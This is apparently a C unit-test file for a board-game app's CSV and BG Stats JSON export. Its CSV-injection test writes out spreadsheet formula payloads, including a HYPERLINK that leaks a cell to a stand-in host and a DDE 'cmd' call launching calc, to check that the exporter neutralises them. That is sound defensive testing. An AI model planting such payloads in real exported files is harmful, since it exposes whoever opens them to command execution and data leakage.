/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-export.c: the plays as CSV for people and as BG Stats' push format
 *
 * What a spreadsheet or BG Stats does with the output, checked on the text:
 * no cell a spreadsheet runs as a formula (OWASP, CSV injection), the file's
 * name without its folder, seats as people count them, a date column; a
 * BG Stats play that BG Stats can match and recognise again whatever the
 * file says of its times.
 */
#define G_LOG_DOMAIN "tyros-test-export"

#include <string.h>
#include <json-glib/json-glib.h>

#include "test-util.h"

/* The finished 3-player game, as a play of @file, with the play record given */
static TyrosPlay *
play_with (const char *file,
           const char *started,
           const char *finished)
{
  g_autoptr(TyrosGame) game = tu_load_game ("game-3p.tyros");
  TyrosPlay *play;

  if (started != NULL)
    g_assert_true (tyros_game_set_played (game, TYROS_PLAYED_STARTED, started, NULL));
  if (finished != NULL)
    g_assert_true (tyros_game_set_played (game, TYROS_PLAYED_FINISHED, finished, NULL));
  play = tyros_play_new (game, file);
  g_assert_nonnull (play);
  return play;
}

static void
set_string (char      **field,
            const char *value)
{
  g_free (*field);
  *field = g_strdup (value);
}

/* The CSV's data lines (after the header), the trailing "" left out */
static GStrv
csv_rows (TyrosPlay *play)
{
  g_autofree char *csv = tyros_export_csv (&play, 1);
  g_auto(GStrv) lines = g_strsplit (csv, "\r\n", -1);
  guint n = g_strv_length (lines);
  GStrv rows = g_new0 (char *, n);

  g_assert_cmpuint (n, >=, 2);
  for (guint i = 1; i + 1 < n; i++)
    rows[i - 1] = g_strdup (lines[i]);
  return rows;
}

/* A cell that starts with = + - @ TAB or CR is a formula (or becomes one)
 * in a spreadsheet: each is written quoted behind a ' (OWASP), in every
 * text column: player, location, note and the file's name. */
static void
test_csv_injection (void)
{
  static const char *const leads[] = { "=", "+", "-", "@", "\t", "\r" };

  for (guint i = 0; i < G_N_ELEMENTS (leads); i++)
    {
      g_autofree char *name = g_strconcat (leads[i], "HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")", NULL);
      g_autofree char *file = g_strconcat ("/home/anna/games/", leads[i], "1+1.tyros", NULL);
      g_autofree char *place = g_strconcat (leads[i], "2+3", NULL);
      g_autofree char *note = g_strconcat (leads[i], "cmd|' /C calc'!A0", NULL);
      g_autoptr(TyrosPlay) play = play_with (file, NULL, NULL);
      g_autoptr(GString) want = g_string_new (NULL);
      g_auto(GStrv) rows = NULL;
      g_autoptr(GString) name_cell = g_string_new ("\"'");

      set_string (&play->players[0].name, name);
      set_string (&play->location, place);
      set_string (&play->note, note);
      rows = csv_rows (play);
      for (const char *p = name; *p != '\0'; p++)
        {
          if (*p == '"')
            g_string_append_c (name_cell, '"');
          g_string_append_c (name_cell, *p);
        }
      g_string_append_c (name_cell, '"');
      g_string_append_printf (want, "\"'%s1+1.tyros\",,,kosmos,3,%s,", leads[i], name_cell->str);
      if (!g_str_has_prefix (rows[0], want->str))
        g_error ("lead %u: row %s does not start with %s", i, rows[0], want->str);
      g_string_printf (want, ",\"'%s2+3\",\"'%scmd|' /C calc'!A0\",", leads[i], leads[i]);
      if (strstr (rows[0], want->str) == NULL)
        g_error ("lead %u: row %s has no %s", i, rows[0], want->str);
    }
}

/* A value that only contains such a character later is a plain value:
 * "Anna-Lena" stays as it is. */
static void
test_csv_plain (void)
{
  g_autoptr(TyrosPlay) play = play_with ("game.tyros", NULL, NULL);
  g_auto(GStrv) rows = NULL;

  set_string (&play->players[0].name, "Anna-Lena");
  set_string (&play->location, "Ben's @home");
  rows = csv_rows (play);
  g_assert_nonnull (strstr (rows[0], ",Anna-Lena,"));
  g_assert_nonnull (strstr (rows[0], ",Ben's @home,"));
}

/* For people: the file's name, not its folder (the Records page's files
 * are full paths in the user's home); seats from 1, the start player 1;
 * a date column in the form a spreadsheet reads as a date. */
static void
test_csv_for_people (void)
{
  g_autoptr(TyrosGame) game = tu_load_game ("game-3p.tyros");
  int start = tyros_game_get_setup (game)->start_player;
  g_autoptr(TyrosPlay) play = play_with ("/home/anna/Tyros/Anna's game.tyros", "2026-11-26T19:04:00+01:00",
                                         "2026-11-26T21:10:00+01:00");
  g_autofree char *csv = tyros_export_csv (&play, 1);
  g_auto(GStrv) lines = g_strsplit (csv, "\r\n", -1);

  g_assert_cmpstr (lines[0], ==,
                   "file,started,finished,edition,players,player,seat,total,rank,winner,colour,location,note,date");
  for (guint p = 0; p < 3; p++)
    {
      g_auto(GStrv) cells = g_strsplit (lines[1 + p], ",", -1);
      g_autofree char *seat = g_strdup_printf ("%d", (int) (p - start + 3) % 3 + 1);

      g_assert_cmpuint (g_strv_length (cells), ==, 14);
      g_assert_cmpstr (cells[0], ==, "Anna's game.tyros");
      g_assert_cmpstr (cells[6], ==, seat);
      g_assert_cmpstr (cells[13], ==, "2026-11-26");
    }
  g_assert_null (strstr (csv, "/home"));
}

/* The date of a play without started: from finished, else the file's time
 * (in the machine's time zone); the year always with four digits. */
static void
test_csv_date_fallbacks (void)
{
  g_autoptr(TyrosPlay) finished = play_with ("a.tyros", NULL, "2026-03-15T23:30:00-05:00");
  g_autoptr(TyrosPlay) file_time = play_with ("b.tyros", NULL, NULL);
  g_autoptr(TyrosPlay) year_one = play_with ("c.tyros", "0001-01-01T10:00:00Z", NULL);
  g_autoptr(GDateTime) when = g_date_time_new_local (2025, 7, 4, 12, 0, 0);
  g_auto(GStrv) rows = NULL;

  rows = csv_rows (finished);
  g_assert_true (g_str_has_suffix (rows[0], ",2026-03-15"));
  g_clear_pointer (&rows, g_strfreev);
  file_time->file_time = g_date_time_to_unix (when);
  rows = csv_rows (file_time);
  g_assert_true (g_str_has_suffix (rows[0], ",2025-07-04"));
  g_clear_pointer (&rows, g_strfreev);
  rows = csv_rows (year_one);
  g_assert_true (g_str_has_suffix (rows[0], ",0001-01-01"));
}

static JsonObject *
bgstats_of (TyrosPlay  *play,
            JsonNode  **node)
{
  *node = tyros_export_bgstats_play (play);
  return json_node_get_object (*node);
}

/* BG Stats matches the game by BoardGameGeek's id (Tyros, Kosmos 2002:
 * 3230); the edition goes as words a person reads in BG Stats. */
static void
test_bgstats_game (void)
{
  g_autoptr(TyrosPlay) play = play_with ("a.tyros", "2026-11-26T19:04:00+01:00", NULL);
  g_autoptr(TyrosPlay) italian = NULL;
  g_autoptr(JsonNode) node = NULL;
  g_autoptr(JsonNode) italian_node = NULL;
  g_autoptr(TyrosGame) game = tu_load_game ("game-italian.tyros");
  JsonObject *object = bgstats_of (play, &node);
  JsonObject *game_object = json_object_get_object_member (object, "game");

  g_assert_cmpint (json_node_get_value_type (json_object_get_member (game_object, "bggId")), ==, G_TYPE_INT64);
  g_assert_cmpint (json_object_get_int_member (game_object, "bggId"), ==, 3230);
  g_assert_cmpstr (json_object_get_string_member (object, "board"), ==, "Kosmos rules");
  italian = tyros_play_new (game, "i.tyros");
  g_assert_nonnull (italian);
  g_assert_cmpstr (json_object_get_string_member (bgstats_of (italian, &italian_node), "board"), ==, "Italian rules");
}

/* A play without started is still recognisable (the same id each time it
 * is sent, another id for another play) and dated: from finished, else the
 * file's time. */
static void
test_bgstats_without_started (void)
{
  g_autoptr(TyrosPlay) a = play_with ("/x/a.tyros", NULL, "2026-11-26T21:10:00+01:00");
  g_autoptr(TyrosPlay) same = play_with ("/y/copy of a.tyros", NULL, "2026-11-26T21:10:00+01:00");
  g_autoptr(TyrosPlay) other = play_with ("/x/a.tyros", NULL, "2026-11-27T21:10:00+01:00");
  g_autoptr(TyrosPlay) bare = play_with ("/x/b.tyros", NULL, NULL);
  g_autoptr(TyrosPlay) touched = play_with ("/x/b.tyros", NULL, NULL);
  g_autoptr(TyrosPlay) renamed = play_with ("/x/b.tyros", NULL, NULL);
  g_autoptr(JsonNode) n1 = NULL, n2 = NULL, n3 = NULL, n4 = NULL, n5 = NULL, n6 = NULL;
  g_autoptr(GDateTime) when = g_date_time_new_local (2025, 7, 4, 18, 30, 5);
  JsonObject *oa = bgstats_of (a, &n1), *osame = bgstats_of (same, &n2), *oother = bgstats_of (other, &n3);
  JsonObject *obare, *otouched, *orenamed;
  const char *id;

  id = json_object_get_string_member_with_default (oa, "sourcePlayId", NULL);
  g_assert_nonnull (id);
  g_assert_cmpuint (strlen (id), >, 8);
  g_assert_cmpstr (json_object_get_string_member_with_default (osame, "sourcePlayId", NULL), ==, id);
  g_assert_cmpstr (json_object_get_string_member_with_default (oother, "sourcePlayId", NULL), !=, id);
  g_assert_cmpstr (json_object_get_string_member_with_default (oa, "playDate", NULL), ==, "2026-11-26 21:10:00");

  bare->file_time = g_date_time_to_unix (when);
  touched->file_time = bare->file_time + 3600;    /* the file touched later: the same play */
  renamed->file_time = bare->file_time;
  set_string (&renamed->players[1].name, "Someone Else");
  obare = bgstats_of (bare, &n4);
  otouched = bgstats_of (touched, &n5);
  orenamed = bgstats_of (renamed, &n6);
  g_assert_cmpstr (json_object_get_string_member_with_default (obare, "playDate", NULL), ==, "2025-07-04 18:30:05");
  g_assert_nonnull (json_object_get_string_member_with_default (obare, "sourcePlayId", NULL));
  g_assert_cmpstr (json_object_get_string_member_with_default (otouched, "sourcePlayId", NULL), ==,
                   json_object_get_string_member_with_default (obare, "sourcePlayId", NULL));
  g_assert_cmpstr (json_object_get_string_member_with_default (obare, "sourcePlayId", NULL), !=,
                   json_object_get_string_member_with_default (orenamed, "sourcePlayId", NULL));
}

/* A play with started keeps started as its id (what earlier versions sent:
 * BG Stats recognises the plays it has already). */
static void
test_bgstats_id_started (void)
{
  g_autoptr(TyrosPlay) play = play_with ("a.tyros", "2026-11-26T19:04:00+01:00", "2026-11-26T21:10:00+01:00");
  g_autoptr(JsonNode) node = NULL;

  g_assert_cmpstr (json_object_get_string_member (bgstats_of (play, &node), "sourcePlayId"), ==,
                   "2026-11-26T19:04:00+01:00");
}

/* Year 1 written with four digits; RFC 3339's lower-case t and z read */
static void
test_bgstats_dates (void)
{
  g_autoptr(TyrosPlay) year_one = play_with ("a.tyros", "0001-01-01T10:00:00Z", NULL);
  g_autoptr(TyrosPlay) lower = play_with ("b.tyros", "2026-11-26t19:04:00z", "2026-11-26t20:34:00z");
  g_autoptr(JsonNode) n1 = NULL, n2 = NULL;
  JsonObject *o1 = bgstats_of (year_one, &n1), *o2 = bgstats_of (lower, &n2);

  g_assert_cmpstr (json_object_get_string_member (o1, "playDate"), ==, "0001-01-01 10:00:00");
  g_assert_cmpstr (json_object_get_string_member (o2, "playDate"), ==, "2026-11-26 19:04:00");
  g_assert_cmpint (json_object_get_int_member (o2, "durationMin"), ==, 90);
}

/* Only a plausible length is sent: 1 minute to 24 hours */
static void
test_bgstats_duration (void)
{
  static const struct { const char *started, *finished; gint64 minutes; } cases[] = {
    { "2026-11-26T19:04:00+01:00", "2026-11-26T21:10:30+01:00", 126 },
    { "2026-11-26T19:00:00+01:00", "2026-11-27T19:00:00+01:00", 1440 },
    { "2026-11-26T19:00:00+01:00", "2026-11-27T19:01:00+01:00", -1 },
    { "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", -1 },      /* 5 billion minutes */
    { "2026-02-10T19:00:00+01:00", "2026-11-26T21:10:00+01:00", -1 },
    { "2026-11-26T19:00:00+01:00", "2026-11-26T19:00:20+01:00", -1 },
    { "2026-11-26T19:00:00+01:00", "2026-11-26T18:00:00+01:00", -1 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(TyrosPlay) play = play_with ("a.tyros", cases[i].started, cases[i].finished);
      g_autoptr(JsonNode) node = NULL;
      JsonObject *object = bgstats_of (play, &node);

      if (cases[i].minutes < 0 && json_object_has_member (object, "durationMin"))
        g_error ("case %u: durationMin %" G_GINT64_FORMAT " sent", i, json_object_get_int_member (object, "durationMin"));
      if (cases[i].minutes >= 0)
        g_assert_cmpint (json_object_get_int_member (object, "durationMin"), ==, cases[i].minutes);
    }
}

/* The play record's texts are limited in bytes, and the refusal says so:
 * 500 "é" are 1,000 bytes and pass; one byte more is refused */
static void
test_played_text_limit_in_bytes (void)
{
  g_autoptr(GString) text = g_string_new (NULL);
  g_autofree char *message = NULL;

  for (guint i = 0; i < 500; i++)
    g_string_append (text, "\xc3\xa9");
  g_assert_true (tyros_played_value_is_valid (TYROS_PLAYED_NOTE, text->str, NULL));
  g_string_append_c (text, 'x');
  g_assert_false (tyros_played_value_is_valid (TYROS_PLAYED_NOTE, text->str, &message));
  g_assert_nonnull (strstr (message, "1 to 1000 bytes"));
  g_clear_pointer (&message, g_free);
  g_assert_false (tyros_player_name_is_valid (text->str, &message));
  g_assert_nonnull (strstr (message, "1 to 200 bytes"));
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/export/csv/injection", test_csv_injection);
  g_test_add_func ("/export/csv/plain", test_csv_plain);
  g_test_add_func ("/export/csv/for-people", test_csv_for_people);
  g_test_add_func ("/export/csv/date-fallbacks", test_csv_date_fallbacks);
  g_test_add_func ("/export/bgstats/game", test_bgstats_game);
  g_test_add_func ("/export/bgstats/without-started", test_bgstats_without_started);
  g_test_add_func ("/export/bgstats/id-started", test_bgstats_id_started);
  g_test_add_func ("/export/bgstats/dates", test_bgstats_dates);
  g_test_add_func ("/export/bgstats/duration", test_bgstats_duration);
  g_test_add_func ("/played/text-limit-in-bytes", test_played_text_limit_in_bytes);
  return g_test_run ();
}
